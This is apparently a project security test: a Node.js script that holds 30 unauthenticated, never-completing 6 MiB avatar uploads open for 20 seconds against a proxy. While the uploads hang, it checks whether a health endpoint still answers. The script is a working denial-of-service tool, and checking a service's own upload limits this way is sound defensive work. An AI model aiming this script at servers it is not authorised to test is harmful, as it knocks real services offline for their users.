// Attack on the production proxy: 30 unauthenticated uploads that never finish, held for 20 s.
// Usage: node test/security/proxy-uploads.mjs http://localhost:1337 [connections]
// Prints how many connections the server answered, how many bytes it accepted, and whether other requests are served meanwhile.
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const HOLD_MS = 20_000;
const BODY_BYTES = 6 * 1024 * 1024 - 1;
const url = new URL(process.argv[2] ?? 'http://localhost:1337');
const connections = Number(process.argv[3] ?? 30);

/** Sends all but the last byte of an upload as fast as the server takes it. */
async function upload() {
  const socket = connect(Number(url.port || 80), url.hostname);
  const state = { sent: 0, status: 'none' };
  socket.on('error', () => undefined);
  socket.on('data', (data) => (state.status = /HTTP\/1.1 (\d+)/.exec(String(data))?.[1] ?? state.status));
  socket.write(
    `PUT /api/users/me/avatar HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: multipart/form-data; boundary=x\r\n` +
      `Content-Length: ${BODY_BYTES}\r\n\r\n`,
  );
  const end = Date.now() + HOLD_MS;
  const chunk = Buffer.alloc(64 * 1024);
  while (Date.now() < end && !socket.destroyed) {
    const size = Math.min(chunk.length, BODY_BYTES - 1 - state.sent);
    if (size <= 0) await sleep(200);
    else if (socket.write(chunk.subarray(0, size))) {
      state.sent += size;
      await sleep(1);
    } else {
      state.sent += size;
      await Promise.race([once(socket, 'drain'), once(socket, 'close'), sleep(end - Date.now())]);
    }
  }
  socket.destroy();
  return state;
}

const uploads = Promise.all(Array.from({ length: connections }, upload));
const others = [];
for (let i = 0; i < 8; i++) {
  await sleep(2000);
  const start = performance.now();
  const status = await fetch(new URL('/api/health/live', url)).then(
    (response) => response.status,
    (error) => error.cause?.code ?? error.message,
  );
  others.push(`${status} in ${Math.round(performance.now() - start)} ms`);
}
const states = await uploads;
const accepted = states.reduce((sum, { sent }) => sum + sent, 0);
const answered = states.map(({ status }) => status);
console.log(`${connections} uploads: ${(accepted / 1024 / 1024).toFixed(1)} MiB sent, answers ${answered.join(' ')}`);
console.log(`other requests: ${others.join(', ')}`);
